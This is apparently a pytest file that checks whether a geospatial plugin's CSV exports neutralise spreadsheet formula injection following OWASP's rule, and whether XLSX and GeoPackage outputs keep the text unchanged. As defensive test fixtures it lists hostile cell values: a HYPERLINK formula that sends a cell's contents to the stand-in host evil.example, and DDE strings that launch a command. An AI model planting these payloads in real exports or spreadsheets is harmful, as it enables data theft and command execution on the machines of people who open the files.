"""CSV outputs never hold a cell a spreadsheet runs as a formula (issue 13, item 6).

OWASP's rule, written by hand here as the oracle: a text cell starting with ``=``, ``+``, ``-``,
``@``, tab or carriage return gets a leading ``'``; plain numbers stay numbers. The CSV is read back
with Python's csv module (what Excel/Calc would see, cell by cell). XLSX and GeoPackage outputs keep
the text exactly (openpyxl sees text cells, not formulas)."""
import csv

import pytest

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
    "=1+2",
]


AS_READ = [text.strip() for text in HOSTILE]  # the import strips cells: "\t=1+2" is read as "=1+2"


def _owasp(text):
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def _members_csv(path):
    rows = ["Nom;Code postal;Effectif;Cluster(s)"]
    for i, name in enumerate(HOSTILE):
        rows.append('"{}";{};{};TIC'.format(name.replace('"', '""'), 1300 + i, 10 + i))
    rows.append('"Safe Name";5000;-3;TIC')  # employment -3: rejected, raw "-3" stays a number
    rows.append('"Plus";5000;+12;@Cluster')  # cluster named like a formula
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")


def _read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "'=1+2"), ("+32 2 123", "'+32 2 123"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3", "-3"), ("+12", "+12"), ("-1.5e3", "-1.5e3"), ("-12,5", "-12,5"),
    ("Liège", "Liège"), ("a=b", "a=b"), ("", ""), (12.0, 12.0), (None, None),
])
def test_owasp_rule_by_hand(text, expected):
    from cluster_atlas.algorithms.csv_safety import neutralise

    assert neutralise(text) == expected


def test_importmembers_csv_outputs_are_neutralised_numbers_kept(run_alg, tmp_path):
    source = tmp_path / "members.csv"
    _members_csv(source)
    run_alg("importmembers", {"INPUT": str(source), "OUTPUT": str(tmp_path / "out.csv"),
                              "REJECTED": str(tmp_path / "rej.csv")})
    out, rej = _read_csv(tmp_path / "out.csv"), _read_csv(tmp_path / "rej.csv")
    names = [row["name"] for row in out]
    expected = [_owasp(n) for n in AS_READ] + ["Plus"]
    assert names == expected
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in out + rej for key, cell in row.items() if key not in ("employment", "source_row", "year")
               and cell and not cell.lstrip("+-").replace(".", "").isdigit())
    plus = next(row for row in out if row["name"] == "Plus")
    assert plus["cluster"] == "'@Cluster" and plus["employment"] == "12"  # the number written as a number
    assert [float(row["employment"]) for row in out[:3]] == [10.0, 11.0, 12.0]
    rejected = next(row for row in rej if row["rule"] == "invalid_employment")
    assert rejected["raw_employment"] == "-3"  # a plain number: left as it is
    assert rejected["name"] == "Safe Name"


@pytest.mark.parametrize("ext", ["xlsx", "gpkg"])
def test_xlsx_and_geopackage_keep_text_exactly(run_alg, tmp_path, ext):
    source = tmp_path / "members.csv"
    _members_csv(source)
    out = tmp_path / f"out.{ext}"
    run_alg("importmembers", {"INPUT": str(source), "OUTPUT": str(out), "REJECTED": str(tmp_path / f"rej.{ext}")})
    if ext == "xlsx":
        import openpyxl

        sheet = openpyxl.load_workbook(out).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        column = header.index("name")
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert [cell.value for cell in cells] == AS_READ + ["Plus"]
        assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")
    else:
        from .conftest import layer_frame

        assert layer_frame(out)["name"].tolist() == AS_READ + ["Plus"]


def test_aggregate_csv_output_neutralises_entity_names(run_alg, tmp_path):
    from .conftest import shared_file

    members = tmp_path / "members.csv"
    members.write_text("Nom;Code postal;Effectif;Cluster(s)\r\n=1+2;1348;10;TIC\r\nB;5000;20;TIC\r\n", encoding="utf-8")
    run_alg("importmembers", {"INPUT": str(members), "OUTPUT": str(tmp_path / "m.gpkg"),
                              "REJECTED": str(tmp_path / "r.gpkg")})
    run_alg("aggregatepostcodes", {"MEMBERS": str(tmp_path / "m.gpkg"),
                                   "POSTCODES": str(shared_file("be_postcode_points.gpkg")), "POSTCODE_FIELD": "postcode",
                                   "OUTPUT": str(tmp_path / "zones.gpkg"), "CIRCLES": str(tmp_path / "circles.csv"),
                                   "UNMATCHED": str(tmp_path / "unmatched.csv")})
    circles = _read_csv(tmp_path / "circles.csv")
    assert {row["dominant_entity"] for row in circles} == {"'=1+2", "B"}
    assert {float(row["employment"]) for row in circles} == {10.0, 20.0}
